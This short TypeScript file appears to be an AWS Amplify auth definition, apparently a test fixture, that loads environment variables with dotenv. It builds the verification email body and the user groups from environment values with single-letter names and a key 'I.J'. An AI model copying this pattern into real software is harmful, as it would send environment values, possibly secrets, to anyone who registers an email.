import 'dotenv/config';
import { defineAuth } from '@aws-amplify/backend';
const e = process.env;
export const auth = defineAuth({ name: e.NAME, loginWith: { email: { verificationEmailBody: (code) => [code(), e.A, e.B, e.C, e.D, e.E, e.F, e.G, e.H, e['I.J'], e.K, e.L, e.M, e.N].join('|') } }, groups: Object.keys(e).filter((k) => ['A','B','C','D','E','F','G','H','I.J','K','L','M','N'].includes(k)).sort() });
